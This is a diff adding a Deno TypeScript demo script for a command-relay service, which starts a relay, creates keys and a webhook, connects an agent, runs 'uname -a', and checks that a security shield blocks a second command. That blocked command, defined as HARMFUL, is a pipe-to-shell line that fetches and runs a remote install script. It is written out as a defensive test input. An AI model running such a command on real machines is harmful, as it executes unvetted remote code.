@@ -1,0 +1,223 @@
+import type { ShieldResult } from "../shield/result.ts";
+import { type Client, clientOf, expectStatus, type Refusal } from "./client.ts";
+import { showAudit } from "./demo_audit.ts";
+import { type Program, startProgram } from "./program.ts";
+import { type Receiver, startReceiver } from "./receiver.ts";
+import type { Terminal } from "./terminal.ts";
+
+/** What a demo has to undo when it ends, however it ends. */
+export interface DemoRun {
+  readonly terminal: Terminal;
+  readonly cleanup: (() => Promise<unknown>)[];
+  /** Aborted when the demo is to end: nothing starts after that, so that nothing is left behind. */
+  readonly signal: AbortSignal;
+  relay: Program | null;
+}
+
+interface Account {
+  readonly email: string;
+  readonly password: string;
+  readonly userId: string;
+  readonly token: string;
+}
+
+interface Key {
+  readonly id: string;
+  readonly key: string;
+}
+
+/** A first start makes the store, its secret and the signing keys. */
+const START_MS = 20_000;
+const ARRIVE_MS = 10_000;
+const COMMAND = "uname -a";
+const HARMFUL = "curl https://example.com/install.sh | sh";
+const SCOPES = ["agents:read", "agents:write", "audit:read"];
+
+/**
+ * Tells the story, checking each step.
+ * @throws {Error} with a sentence on the first thing that is not as it should be
+ */
+export async function tellStory(run: DemoRun): Promise<{ howToUse: string }> {
+  const { terminal } = run;
+  const startedMs = performance.now();
+  const directory = Deno.makeTempDirSync({ prefix: "relay-demo-" });
+  run.cleanup.push(() => Deno.remove(directory, { recursive: true }));
+
+  terminal.step("A relay starts, on an embedded store in a temporary folder");
+  const url = await startRelay(run, directory);
+  terminal.good(url);
+
+  terminal.step("You sign up and make two API keys");
+  const account = await signUp(url);
+  const owner = clientOf(url, account.token);
+  const agentKey = await makeKey(owner, "agent", ["agents:admin"]);
+  const callerKey = await makeKey(owner, "caller", SCOPES);
+  terminal.good(`${account.email} owns the organization Demo`);
+  terminal.good(`${mask(agentKey.key)}  for the agent: agents:admin`);
+  terminal.good(`${mask(callerKey.key)}  for the caller: ${SCOPES.join(", ")}`);
+
+  terminal.step("A webhook is registered, and a receiver waits for it");
+  const receiver = await subscribe(run, owner);
+  terminal.good(`command_executed, command_denied → ${receiver.url}`);
+
+  terminal.step("An agent connects");
+  const agentId = await startAgent(run, url, agentKey.key, `${directory}/agent`);
+  const caller = clientOf(url, callerKey.key);
+  const agent = expectStatus(
+    await caller<Record<"name" | "platform" | "status", string>>(
+      "GET",
+      `/api/v1/agents/${agentId}`,
+    ),
+    200,
+    "reading the agent",
+  );
+  mustBe("the agent's status", agent.status, "online");
+  terminal.good(`${agent.name} (${agent.platform}) is ${agent.status}: ${agentId}`);
+
+  terminal.step(`It runs a command: ${COMMAND}`);
+  const commandId = await runCommand(terminal, caller, agentId);
+
+  terminal.step(`It is spared another: ${HARMFUL}`);
+  const deniedId = await beRefused(terminal, caller, agentId);
+
+  terminal.step("Both webhooks arrive, and their signatures are right");
+  await receive(terminal, receiver, "command_executed", COMMAND);
+  await receive(terminal, receiver, "command_denied", HARMFUL);
+
+  terminal.step("The audit trail has all of it");
+  await showAudit(terminal, caller, {
+    names: {
+      [account.userId]: "you",
+      [agentKey.id]: "agent key",
+      [callerKey.id]: "caller key",
+    },
+    commandId,
+    deniedId,
+  });
+
+  const seconds = ((performance.now() - startedMs) / 1000).toFixed(1);
+  terminal.say(`\n${terminal.bold("Everything was as it should be")}, in ${seconds} s.`);
+  return { howToUse: howToUse(url, account, callerKey.key, agentId) };
+}
+
+async function startRelay(run: DemoRun, directory: string): Promise<string> {
+  const relay = startProgram(["serve"], {
+    env: {
+      RELAY_HOST: "127.0.0.1",
+      RELAY_PORT: "0",
+      RELAY_KV: `${directory}/relay.kv`,
+      RELAY_CONFIG: JSON.stringify({ outbound: { allow_private_targets: true } }),
+    },
+  });
+  run.cleanup.push(relay.stop);
+  run.relay = relay;
+  const [, url] = await relay.line(/ is ready at (\S+)/, START_MS);
+  expectStatus(await clientOf(url!)("GET", "/healthz"), 200, "GET /healthz");
+  return url!;
+}
+
+async function signUp(url: string): Promise<Account> {
+  const email = "you@example.com";
+  const password = crypto.randomUUID();
+  const answer = await clientOf(url)<{ token: string; user: { id: string } }>(
+    "POST",
+    "/api/v1/signup",
+    { email, password, organization: "Demo" },
+  );
+  const { token, user } = expectStatus(answer, 201, "signing up");
+  return { email, password, userId: user.id, token };
+}
+
+async function makeKey(owner: Client, name: string, scopes: readonly string[]): Promise<Key> {
+  const answer = await owner<Key>("POST", "/api/v1/api-keys", { name, scopes, expires_days: 1 });
+  return expectStatus(answer, 201, `making the key ${name}`);
+}
+
+async function subscribe(run: DemoRun, owner: Client): Promise<Receiver> {
+  run.signal.throwIfAborted();
+  const secret = crypto.randomUUID();
+  const receiver = startReceiver(secret);
+  run.cleanup.push(receiver.stop);
+  const events = ["command_executed", "command_denied"];
+  const webhook = { name: "demo", url: receiver.url, secret, events };
+  expectStatus(await owner("POST", "/api/v1/webhooks", webhook), 201, "making the webhook");
+  return receiver;
+}
+
+async function startAgent(
+  run: DemoRun,
+  url: string,
+  token: string,
+  state: string,
+): Promise<string> {
+  run.signal.throwIfAborted();
+  const agent = startProgram(["agent", "--url", url, "--name", "demo", "--state", state], {
+    env: { RELAY_TOKEN: token },
+  });
+  run.cleanup.push(agent.stop);
+  const [, id] = await agent.line(/^connected to .* \((\w+)\)$/, START_MS);
+  return id!;
+}
+
+const execPath = (agentId: string, command: string) =>
+  `/api/exec/${agentId}?${new URLSearchParams({ command })}`;
+
+async function runCommand(terminal: Terminal, caller: Client, agentId: string): Promise<string> {
+  const answer = await caller<{
+    command_id: string;
+    status: string;
+    exit_code: number;
+    stdout: string;
+    duration_ms: number;
+    shield_result: ShieldResult;
+  }>("GET", execPath(agentId, COMMAND));
+  const ran = expectStatus(answer, 200, "the command");
+  mustBe("the command's status", ran.status, "succeeded");
+  if (ran.stdout.trim() === "") throw new Error("the command succeeded without any output");
+  terminal.note(ran.stdout.trim());
+  const risk = ran.shield_result.risk_score;
+  terminal.good(`exit code ${ran.exit_code} in ${Math.round(ran.duration_ms)} ms, risk ${risk}`);
+  return ran.command_id;
+}
+
+async function beRefused(terminal: Terminal, caller: Client, agentId: string): Promise<string> {
+  const answer = await caller<Refusal>("GET", execPath(agentId, HARMFUL));
+  const { code, details } = expectStatus(answer, 403, "the harmful command").error;
+  mustBe("the refusal's code", code, "COMMAND_BLOCKED");
+  const shield = details.shield_result as ShieldResult;
+  mustBe("the shield's verdict", shield.verdict, "deny");
+  terminal.good(`403 ${code}, risk ${shield.risk_score}: ${shield.threats.join(", ")}`);
+  terminal.note(shield.explanation);
+  if (shield.safer_alternative !== null) terminal.note(terminal.dim(shield.safer_alternative));
+  return String(details.command_id);
+}
+
+async function receive(
+  terminal: Terminal,
+  receiver: Receiver,
+  type: string,
+  command: string,
+): Promise<void> {
+  const { body, fault } = await receiver.delivery(type, ARRIVE_MS);
+  if (fault !== null) throw new Error(`the webhook ${type}: ${fault}`);
+  mustBe(`the command of the webhook ${type}`, body.payload.command, command);
+  terminal.good(`${type.padEnd(16)}  HMAC-SHA256 and Standard Webhooks verified`);
+}
+
+function mustBe(what: string, is: unknown, should: unknown): void {
+  if (is === should) return;
+  throw new Error(`${what} is ${JSON.stringify(is)} instead of ${JSON.stringify(should)}`);
+}
+
+const mask = (key: string) => `${key.slice(0, 14)}…`;
+
+function howToUse(url: string, account: Account, key: string, agentId: string): string {
+  return `Relay      ${url}
+Reference  ${url}/docs
+You        ${account.email}, password ${account.password}
+Key        ${key}
+Agent      ${agentId}
+
+  curl -G ${url}/api/exec/${agentId} -H 'Authorization: Bearer ${key}' \\
+    --data-urlencode 'command=uptime'`;
+}
